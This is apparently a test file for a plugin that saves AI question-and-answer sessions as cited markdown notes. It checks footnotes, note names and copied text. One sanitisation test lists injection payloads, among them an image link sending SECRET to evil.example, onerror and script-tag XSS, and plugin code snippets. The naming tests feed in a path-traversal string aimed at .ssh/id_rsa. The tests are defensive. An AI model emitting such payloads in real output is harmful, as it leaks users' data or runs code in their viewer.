import MarkdownIt from 'markdown-it';
import footnotes from 'markdown-it-footnote';
import { markdownLink } from '../../../src/core/cite/links';
import type { Links } from '../../../src/core/ports';
import { copyText } from '../../../src/ui/ask/copy-text';
import { freeName, noteName, withTurn } from '../../../src/ui/ask/conversation-note';
import { claim, extractive, generated, hit, passages, quotation, turn } from '../answers';

const links: Links = { link: (path, _, subpath, alias) => markdownLink(path, subpath, alias), resolve: () => null };
const cited = passages(hit('Mill.pdf', 'The mill burnt in 1797.'), hit('Dam.pdf', 'The dam broke.', 3, '3'));
const markdown = new MarkdownIt({ html: true, breaks: true }).use(footnotes);

const burnt = extractive([claim('The mill burnt in 1797.', 'verified', [cited[0]])], cited);
const withBurnt = (note: string): string =>
  withTurn(note, turn('When did it burn?', burnt), [[quotation('Mill.pdf', 'The mill burnt in 1797.')]], 'C/a.md', links);

const idsOf = (note: string): string[] => Array.from(note.matchAll(/^\[\^([^\]]+)\]:/gm), ([, id]) => id);

describe('a conversation as a note', () => {
  it('has a section a turn, its footnotes and how it was made', () => {
    expect(withBurnt('')).toMatch(/^## When did it burn\?\n\n“The mill burnt in 1797\.”\[\^mill-pxii-\w+\]\n\n\*Sentences quoted from the sources; no model was used\.\*\n\n\[\^mill-pxii-\w+\]: .*Mill\.pdf.*: “The mill burnt in 1797\.”\n$/s);
  });

  it('grows, and no two turns have a footnote of one id, although they cite the same words', () => {
    const note = withBurnt(withBurnt(withBurnt('Mine.\n')));
    expect(note.startsWith('Mine.\n\n## When')).toBe(true);
    expect(new Set(idsOf(note)).size).toBe(3);
    for (const id of idsOf(note)) expect(note.split(`[^${id}]`)).toHaveLength(3);
  });

  it('has a footnote for each sentence, also where two cite the same words', () => {
    const words = quotation('Mill.pdf', 'The mill burnt in 1797.');
    const twice = extractive([claim('The mill burnt in 1797.', 'verified', [cited[0]]), claim('It was rebuilt.', 'verified', [cited[0]])], cited);
    const ids = idsOf(withTurn('', turn('?', twice), [[words], [words]], 'a.md', links));
    expect([ids.length, new Set(ids).size]).toEqual([2, 2]);
  });

  it('says which sentences nothing bears out, and cites nothing for them', () => {
    const answer = generated('It burnt [1]. It was *rebuilt* [2].', [claim('It burnt.', 'near', [cited[0]]), claim('It was *rebuilt*.', 'unsupported', [cited[1]])], cited);
    const note = withTurn('', turn('?', answer), [[quotation('Mill.pdf', 'The mill burnt in 1797.')], []], 'a.md', links);
    expect(note).toMatch(/^It burnt\.\[\^[\w-]+\] It was \*rebuilt\*\. \*\(not borne out by its source\)\*$/m);
    expect(note).toContain('1 of 2 sentences checked');
    expect(idsOf(note)).toHaveLength(1);
  });

  it('tells what went wrong where there is no answer', () => {
    expect(withTurn('', turn('Why?', null), [], 'a.md', links)).toBe('## Why?\n\nOllama does not run.\n\n*There was no answer.*\n');
  });

  it('S-14: holds nothing that a model could load or run through it', () => {
    const payloads = [
      '![x](https://evil.example/?q=SECRET)', '![x][1]\n\n[1]: https://evil.example', '<img src=x onerror=alert(1)>', '![[Private note]]', '[[Private note]]', '[click](https://evil.example)',
      '`$= dv.pages()`', '`= this.x`', '```dataviewjs\nalert(1)\n```', '~~~mermaid\nclick A\n~~~', '- [ ] task', '<% tp.file.title %>', '%%x%%', '$$x$$', '#tag', '---\ncssclass: x\n---', '[^1]: x', '[1](https://evil.example)', '1. ![x](y)', '> [!danger] <script>alert(1)</script>',
      '<https://evil.example>',
    ];
    const answer = generated(payloads.join('\n\n'), [], passages(hit('A.pdf', 'x')));
    for (const written of [withTurn('', turn('![q](https://evil.example) <% x %>', answer), [], 'a.md', links), copyText(answer, (path) => path)]) {
      const html = markdown.render(written).replace(/<\/?(?:p|h2|em|strong|ol|ul|li|blockquote)(?: start="\d+")?>|<br>/g, '');
      expect(html).not.toMatch(/<[a-z]/i);
      expect(written).not.toMatch(/(?:^|[^\\])(?:!?\[\[|<%|`|~~~|\$=|%%|#tag)/);
    }
  });
});

describe('the name of the note', () => {
  it.each([
    ['What did Smith say of “Mill/Dam”: *why*?', 'What did Smith say of “Mill Dam” why'],
    ['../../.ssh/id_rsa', 'ssh id_rsa'],
    ['???', 'Conversation'],
    ['con', 'Conversation'],
    ['.hidden', 'hidden'],
    ['a\u202egnp.md', 'a gnp.md'],
    ['x'.repeat(200), 'x'.repeat(80)],
    ['😀'.repeat(100), '😀'.repeat(80)],
    ['[[Link#part|alias]] 50 %', 'Link part alias 50'],
    ['Line\nbreak', 'Line break'],
  ])('%s', (question, name) => {
    expect(noteName(question)).toBe(name);
  });

  it('is one that is free', () => {
    const taken = new Set(['Why', 'Why 2']);
    expect(freeName('Why', (name) => taken.has(name))).toBe('Why 3');
  });
});

describe('what is copied', () => {
  it('is the answer with the sources that it cites', () => {
    expect(copyText(burnt, (path) => path)).toBe('“The mill burnt in 1797.” \\[1\\]\n\nSources:\n\n\\[1\\] Mill, p. xii · page 14 of the file (Mill.pdf)');
  });

  it('names a source as it is called now; one that is gone as it was', () => {
    const both = extractive([claim('The mill burnt in 1797.', 'verified', cited)], cited);
    const text = copyText(both, (path) => (path === 'Mill.pdf' ? 'Works/Mill of 1797.pdf' : null));
    expect(text).toContain('Mill of 1797, p. xii · page 14 of the file (Works/Mill of 1797.pdf)');
    expect(text).toContain('Dam, p. 3 (Dam.pdf)');
  });
});
